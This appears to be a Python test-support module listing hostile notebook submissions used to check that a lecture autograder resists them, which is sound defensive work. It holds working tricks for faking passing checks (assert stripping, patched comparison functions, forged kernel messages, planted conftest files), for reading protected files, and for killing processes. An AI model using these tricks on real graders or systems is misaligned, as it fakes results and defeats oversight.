"""Attacks on a grader: wrong answers to a tiny exercise that try to get marks, or to do damage.

Each one is seen to succeed against plain nbval, in a notebook as a trusting instructor would
check it, and to fail against ours. No test in here.
"""

import os
import signal
import socket
import subprocess
import textwrap
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path

from lecture_grader.student.probe import MIME

__all__ = ["ATTACKS", "DAMAGE", "ON_NBVAL", "Attack", "World"]


class World:
    """Where attacks could do harm, with instruments that tell whether they did.

    Args:
        folder: An empty folder.
        protected: Files that no submission may read.
        folders: Folders in which no submission may write.
    """

    def __init__(self, folder: Path, protected: list[Path], folders: list[Path]):
        self.folder, self.protected, self.folders = folder, protected, folders
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(str(folder / "socket"))
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind(f"\0{folder}")
        for listener in (self.unix, self.abstract):
            listener.listen()
        os.chmod(folder / "socket", 0o777)  # only the sandbox is to be in the way
        for listener in (self.tcp, self.udp, self.unix, self.abstract):
            listener.setblocking(False)
        # A process of the user who grades, as an editor or a shell would be.
        self.bystander = subprocess.Popen(["sleep", "3600"], stdin=subprocess.DEVNULL)
        self.orphan_seconds = f"3600.{os.getpid()}"

    def fill(self, text: str) -> str:
        """A text of an attack, with the words that stand for places of this world replaced."""
        words = {
            "FOLDERS": [str(folder) for folder in self.folders],
            "PROTECTED": [str(path) for path in self.protected],
            "TCP_PORT": self.tcp.getsockname()[1],
            "UDP_PORT": self.udp.getsockname()[1],
            "UNIX_PATH": str(self.folder / "socket"),
            "ABSTRACT": f"\0{self.folder}",
            "BYSTANDER": self.bystander.pid,
            "ORPHAN_SECONDS": self.orphan_seconds,
        }
        for word, value in words.items():
            text = text.replace(word, repr(value))
        return text

    def damage(self) -> set[str]:
        """Which harm was done so far."""
        found = {path.name for folder in self.folders for path in folder.glob("planted-*")}
        for name, listener in (("tcp", self.tcp), ("unix", self.unix), ("abstract", self.abstract)):
            with suppress(BlockingIOError):
                listener.accept()[0].close()
                found.add(f"connected-{name}")
        with suppress(BlockingIOError):
            found.add(f"received-{self.udp.recv(100).decode()}")
        if self.bystander.poll() is not None:
            found.add("killed-bystander")
        if self.orphans():
            found.add("left-orphan")
        return found

    def orphans(self) -> list[int]:
        """Processes that an attack started and that have outlived the grading."""
        found = []
        for path in Path("/proc").glob("[0-9]*/cmdline"):
            try:
                words = path.read_bytes().split(b"\0")
            except OSError:  # it has just ended
                continue
            if words[:2] == [b"sleep", self.orphan_seconds.encode()]:
                found.append(int(path.parent.name))
        return found

    def close(self) -> None:
        """Ends what was started here or left behind."""
        self.bystander.kill()
        self.bystander.wait()
        for pid in self.orphans():
            os.kill(pid, signal.SIGKILL)
        for listener in (self.tcp, self.udp, self.unix, self.abstract):
            listener.close()


# What every attack answers unless it says otherwise: the named wrong answer "not-scaled".
NOT_SCALED = "def scaled_sum(x, scale):\n    return sum(x)\n"
NAIVE_CHECK = "assert scaled_sum([1.0, 2.0], 3.0) == 9.0"
WRONG = frozenset({"wrong"})
TAMPERED = frozenset({"tampered"})
ERROR = frozenset({"error"})  # no values come: which shows nothing but that
CORRECT = frozenset({"correct"})
NO_MARKS = frozenset({"wrong", "tampered", "error"})
DEAD = NO_MARKS | {"crashed"}


@dataclass(frozen=True)
class Attack:
    """A hostile submission, for plain nbval and for ours."""

    name: str
    trick: str = ""  # code above the answer, in its cell
    outcomes: frozenset[str] = NO_MARKS  # what our grader may call it
    answer: str = NOT_SCALED
    check: str = NAIVE_CHECK  # as a trusting instructor writes it
    edit: str = ""  # text that the student puts before the check
    tags: tuple[str, ...] = ()  # that the student puts on the check
    deleted: bool = False  # whether the student removed the check
    beside: dict[str, str] = field(default_factory=dict)  # other files of the student
    plain: str = "passes"  # what plain nbval lets happen: "passes", damage, or why nothing

    @property
    def cell(self) -> str:
        """Source of the answer cell."""
        return f"{self.trick}\n\n{self.answer}"


def code(text: str) -> str:
    """Source as it is written below."""
    return textwrap.dedent(text).strip() + "\n"


# ---------------------------------------------------------------------------- nbval's markers

MARKERS = [
    Attack("skip-comment", outcomes=WRONG, edit="# NBVAL_SKIP\n"),
    Attack("skip-tag", outcomes=WRONG, tags=("nbval-skip",)),
    Attack("raises-tag", outcomes=WRONG, tags=("raises-exception",)),
    Attack("raises-comment", outcomes=WRONG, edit="# NBVAL_RAISES_EXCEPTION\n"),
    Attack("check-deleted", outcomes=WRONG, deleted=True),
]

# ---------------------------------------------------------------------------- IPython

IPYTHON = [
    Attack(
        "exception-handler",
        "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
        WRONG,
    ),
    Attack(
        "showtraceback-patched",
        code("""
            from IPython.core.interactiveshell import InteractiveShell

            InteractiveShell.showtraceback = lambda *a, **k: None
            get_ipython().showtraceback = lambda *a, **k: None
        """),
        WRONG,
    ),
    Attack(
        "every-cell-is-pass",
        "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
        ERROR,
    ),
    Attack(
        "asserts-removed-from-text",
        code("""
            get_ipython().input_transformers_post.append(
                lambda lines: [line.replace("assert ", "None, ") for line in lines]
            )
        """),
    ),
    Attack(
        "asserts-removed-from-syntax-tree",
        code("""
            import ast


            class NoAsserts(ast.NodeTransformer):
                def visit_Assert(self, node):
                    return ast.Pass()


            get_ipython().ast_transformers.append(NoAsserts())
        """),
        WRONG,
    ),
    Attack(
        "nothing-runs",
        code("""
            async def run_nothing(*arguments, **keywords):
                return False


            get_ipython().run_code = run_nothing
        """),
        ERROR,
    ),
    Attack(
        "hook-reads-later-cells",
        code("""
            import re

            seen = []
            get_ipython().events.register("pre_run_cell", lambda info: seen.append(info.raw_cell))
        """),
        answer=code("""
            def scaled_sum(x, scale):
                told = re.findall(r"== ([0-9.]+)", seen[-1])
                return float(told[0]) if told else float(len(seen[-1]))
        """),
    ),
]

# ---------------------------------------------------------------------------- values and checkers

VALUES = [
    Attack(
        "object-equal-to-everything",
        code("""
            class Everything:
                __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda *a: True
                __abs__ = __sub__ = __rsub__ = __mul__ = __rmul__ = lambda self, *a: self
                __float__ = lambda self: 0.0
                __hash__ = None
        """),
        answer="def scaled_sum(x, scale):\n    return Everything()\n",
        check=code("""
            answer = scaled_sum([1.0, 2.0], 3.0)
            assert answer == 9.0
            assert abs(answer - 9.0) < 1e-6
        """),
    ),
    Attack(
        "float-equal-to-everything",
        "class Everything(float):\n    __eq__ = lambda *a: True\n    __hash__ = None\n",
        answer="def scaled_sum(x, scale):\n    return Everything(1.0)\n",
    ),
    Attack(
        "array-equal-to-everything",
        code("""
            import numpy as np


            class Everything(np.ndarray):
                __eq__ = lambda *a: True
                detach = cpu = numpy = lambda self: self
                astype = reshape = lambda self, *a: self
        """),
        answer="def scaled_sum(x, scale):\n    return np.zeros(()).view(Everything)\n",
    ),
    Attack(
        "abs-patched",
        "import builtins\n\nbuiltins.abs = lambda x: 0.0",
        WRONG,
        check="assert abs(scaled_sum([1.0, 2.0], 3.0) - 9.0) < 1e-6",
    ),
    Attack(
        "isclose-patched",
        code("""
            import math

            import numpy as np

            math.isclose = np.isclose = np.allclose = lambda *a, **k: True
        """),
        WRONG,
        check="import math\n\nassert math.isclose(scaled_sum([1.0, 2.0], 3.0), 9.0)",
    ),
    Attack(
        "numpy-testing-patched",
        code("""
            import numpy.testing

            numpy.testing.assert_allclose = numpy.testing.assert_equal = lambda *a, **k: None
        """),
        WRONG,
        check=code("""
            import numpy.testing

            numpy.testing.assert_allclose(scaled_sum([1.0, 2.0], 3.0), 9.0)
        """),
    ),
    Attack(
        "unittest-patched",
        "import unittest\n\nunittest.TestCase.assertAlmostEqual = lambda *a, **k: None",
        WRONG,
        check=code("""
            import unittest

            unittest.TestCase().assertAlmostEqual(scaled_sum([1.0, 2.0], 3.0), 9.0)
        """),
    ),
]

# ---------------------------------------------------------------------------- secrets

COPY = """
    try:
        text = path.read_text()
    except OSError:
        continue
    print("READ", path)
    if "return scale * sum(x)" in text:
        return scale * sum(x)
return 0.0
"""

SECRETS = [
    Attack(
        "reads-its-caller",
        "import sys",
        answer=code("""
            def scaled_sum(x, scale):
                told = [c for c in sys._getframe(1).f_code.co_consts if type(c) is float]
                return told[-1] if told else 0.0
        """),
    ),
    Attack(
        "searches-objects",
        "import gc",
        answer=code("""
            def scaled_sum(x, scale):
                for thing in gc.get_objects():
                    if type(thing) is dict and "expected" in thing:
                        return thing["expected"]
                return 0.0
        """),
        check="expected = 9.0\nassert scaled_sum([1.0, 2.0], 3.0) == expected",
    ),
    Attack(
        "copies-a-file",
        "from pathlib import Path",
        answer="def scaled_sum(x, scale):\n    for path in map(Path, PROTECTED):"
        + textwrap.indent(COPY, "    "),
    ),
    Attack(
        "copies-through-a-link",
        code("""
            import os
            from pathlib import Path


            def linked(number, path):
                link = Path.home() / f"link-{number}"
                if not link.is_symlink():
                    os.symlink(path, link)
                return link
        """),
        answer="def scaled_sum(x, scale):\n    for path in map(linked, range(99), PROTECTED):"
        + textwrap.indent(COPY, "    "),
    ),
]

# ---------------------------------------------------------------------------- forged messages

FORGE = code("""
    kernel = get_ipython().kernel
    genuine = kernel.session.send


    def forge(kind, content):
        genuine(kernel.iopub_socket, kind, content, kernel.get_parent(), ident=kind.encode())
""")
INVENTED = '{"values": [{"float": "inf"}, 9.0, 9.0, 9.0], "files": []}'
DISPLAYED = f"{{'data': {{'{MIME}': '{INVENTED}'}}, 'metadata': {{}}}}"

MESSAGES = [
    Attack(
        "errors-not-sent",
        FORGE
        + code("""
            def silent(stream, kind, *a, **k):
                return None if kind == "error" else genuine(stream, kind, *a, **k)


            kernel.session.send = silent
        """),
        WRONG,
    ),
    Attack(
        "idle-forged-early",
        FORGE
        + code(f"""
            def end_early(info):
                forge("display_data", {DISPLAYED})
                forge("status", {{"execution_state": "idle"}})


            get_ipython().events.register("pre_run_cell", end_early)
        """),
    ),
    Attack(
        "key-of-the-connection-used",
        code(f"""
            from ipykernel.kernelapp import IPKernelApp
            from jupyter_client.session import Session

            app = IPKernelApp.instance()
            session = Session(key=app.session.key)


            def end_early(info):
                parent = app.kernel.get_parent()
                session.send(app.iopub_socket, "display_data", {DISPLAYED}, parent)
                session.send(app.iopub_socket, "status", {{"execution_state": "idle"}}, parent)


            get_ipython().events.register("pre_run_cell", end_early)
        """),
    ),
]

# ---------------------------------------------------------------------------- files beside it

PLANT = "from pathlib import Path\n\n(Path(FOLDERS[0]) / 'planted-NAME').write_text('')\n"

BESIDE = [
    Attack(
        "own-conftest",
        outcomes=WRONG,
        beside={
            "conftest.py": PLANT.replace("NAME", "conftest")
            + "\n\ndef pytest_sessionfinish(session):\n    session.exitstatus = 0\n"
        },
    ),
    Attack(
        "own-pytest-ini",
        outcomes=WRONG,
        beside={"pytest.ini": "[pytest]\naddopts = --collect-only\n"},
    ),
    Attack(
        "own-torch",
        outcomes=WRONG,
        check="import torch\n\nassert torch.allclose(scaled_sum([1.0, 2.0], 3.0), 9.0)",
        beside={
            "torch.py": PLANT.replace("NAME", "torch") + "allclose = lambda *a, **k: True\n",
            "lecture_vae.py": PLANT.replace("NAME", "lecture_vae"),
        },
    ),
    Attack(
        "own-sitecustomize",
        outcomes=WRONG,
        beside={"sitecustomize.py": PLANT.replace("NAME", "sitecustomize")},
        plain="resists: Python looks for sitecustomize before it looks into the working folder",
    ),
]

# ---------------------------------------------------------------------------- damage


def damage(name: str, plain: str, imports: str, deed: str) -> Attack:
    """An attack that does some deed, says where that was refused, and then answers wrongly."""
    tried = textwrap.indent(code(deed), "    ")
    refused = "except OSError as error:\n    print('refused:', error)\n"
    return Attack(name, f"{imports}\n\ntry:\n{tried}{refused}", WRONG, plain=plain)


DAMAGE = [
    *(
        Attack(
            f"writes-{name}",
            code(f"""
                from pathlib import Path

                for number, folder in enumerate(FOLDERS):
                    try:
                        {place}
                        (place / "planted-{name}").write_text("planted")
                    except OSError as error:
                        print("refused:", error)
            """),
            WRONG,
            plain=f"planted-{name}",
        )
        for name, place in (
            ("outside", "place = Path(folder)"),
            (
                "through-a-link",
                "(place := Path.home() / f'folder-{number}').symlink_to(folder)",
            ),
        )
    ),
    damage(
        "connects-by-tcp",
        "connected-tcp",
        "import socket",
        "socket.create_connection(('127.0.0.1', TCP_PORT), timeout=1).close()",
    ),
    damage(
        "asks-by-udp",
        "received-query",
        "import socket",
        """
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
            resolver.sendto(b"query", ("127.0.0.1", UDP_PORT))
        """,
    ),
    *(
        damage(
            f"connects-to-{name}",
            f"connected-{kind}",
            "import socket",
            f"with socket.socket(socket.AF_UNIX) as reach:\n    reach.connect({place})",
        )
        for name, kind, place in (
            ("a-socket-file", "unix", "UNIX_PATH"),
            ("an-abstract-socket", "abstract", "ABSTRACT"),
        )
    ),
    damage("kills-a-bystander", "killed-bystander", "import os", "os.kill(BYSTANDER, 9)"),
    Attack(
        "kills-its-parent",
        "import os\n\nif os.getppid() != 1:\n    os.kill(os.getppid(), 9)",
        DEAD,
        plain="killed",
    ),
    damage(
        "leaves-an-orphan",
        "left-orphan",
        "import subprocess",
        "subprocess.Popen(['sleep', ORPHAN_SECONDS], start_new_session=True)",
    ),
]

# ---------------------------------------------------------------------------- against ours alone

NONE = "resists: it has nothing of the kind"


def display_after(values: str) -> str:
    """Code that displays `values` after every cell, where ours displays its own."""
    return code(f"""
        from IPython.display import display

        get_ipython().events.register(
            "post_run_cell", lambda result: display({{"{MIME}": {values}}}, raw=True)
        )
    """)


OURS = [
    Attack(
        "values-displayed-by-the-answer",
        "from IPython.display import display",
        answer=code(f"""
            def scaled_sum(x, scale):
                display({{"{MIME}": '{INVENTED}'}}, raw=True)
                raise SystemExit
        """),
        plain=NONE,
    ),
    Attack("values-displayed-after-ours", display_after(repr(INVENTED)), plain=NONE),
    Attack("values-of-one-case", display_after("'{\"values\": [9.0]}'"), WRONG, plain=NONE),
    Attack("values-nested", display_after("'[' * 900 + ']' * 900"), TAMPERED, plain=NONE),
    Attack("values-in-no-list", display_after("'9.0'"), TAMPERED, plain=NONE),
    Attack(
        "result-line-printed",
        code("""
            import json

            cell = {"cell": "e1-probe", "outcome": "ok", "values": "[9.0, 9.0, 9.0, 9.0]"}
            print(json.dumps({"notebook": "000000", "cells": [cell]}))
            print("4 passed in 0.01s")
        """),
        WRONG,
        plain=NONE,
    ),
    Attack(
        "result-line-to-every-pipe",
        code("""
            import os
            import stat

            for descriptor in range(256):
                try:
                    if stat.S_ISFIFO(os.fstat(descriptor).st_mode):
                        os.set_blocking(descriptor, False)
                        os.write(descriptor, b'{"notebook": "000000", "cells": []}\\n')
                except OSError:
                    pass
        """),
        WRONG,
        plain=NONE,
    ),
    Attack(
        "grading-code-patched",
        code("""
            from lecture_grader.student import probe as inside
            from lecture_grader.student import selfcheck
            from lecture_grader.student import values

            values.difference = selfcheck.difference = lambda *a, **k: None
            values.encode = inside.encode = lambda value: 9.0
            selfcheck.KnownCases.check = lambda *a: print("Right on 3 known cases.")
            selfcheck.KnownCases.look_for_mistakes = lambda *a: None
        """),
        WRONG,
        plain=NONE,
    ),
    Attack(
        "grading-code-replaced",
        code(f"""
            import sys
            import types

            from IPython.display import display

            fake = types.ModuleType("lecture_grader.student.probe")
            fake.probe_answer = lambda told: display({{"{MIME}": '{INVENTED}'}}, raw=True)
            fake.run_statements = lambda source: None
            sys.modules["lecture_grader.student.probe"] = fake
        """),
        WRONG,
        plain=NONE,
    ),
    Attack(
        "torch-patched",
        code("""
            import torch

            torch.allclose = torch.isclose = torch.equal = lambda *a, **k: True
            torch.testing.assert_close = lambda *a, **k: None
        """),
        WRONG,
        plain=NONE,
    ),
    Attack(  # a right answer, put back before each cell; a planted one is asked for by itself
        "answer-put-back",
        code("""
            kept = []
            get_ipython().events.register(
                "pre_run_cell", lambda info: globals().update(scaled_sum=kept[0])
            )
        """),
        CORRECT,
        answer=NOT_SCALED.replace("sum(x)", "scale * sum(x)") + "\n\nkept.append(scaled_sum)\n",
        plain=NONE,
    ),
    *(
        Attack(
            f"message-{name}",
            FORGE + f"\n\nforge({kind!r}, {content})\n",
            answer=NOT_SCALED.replace("    ", f"    forge({kind!r}, {content})\n    "),
            outcomes=DEAD,
            plain=NONE,
        )
        for name, kind, content in (
            ("text-is-a-number", "stream", "{'name': 'stdout', 'text': 5}"),
            ("text-is-missing", "stream", "{'name': 'stdout'}"),
            ("data-is-none", "display_data", "{'data': None, 'metadata': {}}"),
            ("data-is-a-list", "display_data", "{'data': [1], 'metadata': []}"),
            ("values-are-a-dict", "display_data", f"{{'data': {{'{MIME}': {{}}}}, 'metadata': 0}}"),
            ("error-is-nested", "error", "{'ename': [1], 'evalue': {}, 'traceback': 3}"),
            ("status-is-a-list", "status", "{'execution_state': ['idle']}"),
            ("kind-is-unknown", "gradebook", "{'points': 10}"),
            ("is-half-a-surrogate", "stream", "{'name': 'stdout', 'text': '\\ud800'}"),
        )
    ),
    Attack(
        "message-is-noise",
        FORGE
        + code("""
            for frames in ([b""], [b"x"], [b"<IDS|MSG>"], [b"<IDS|MSG>", b"", b"{", b"[]", b"1"]):
                kernel.iopub_socket.send_multipart(frames)
        """),
        DEAD,
        plain=NONE,
    ),
]

ON_NBVAL = [*MARKERS, *IPYTHON, *VALUES, *SECRETS, *MESSAGES, *BESIDE, *DAMAGE]
ATTACKS = [*ON_NBVAL, *OURS]
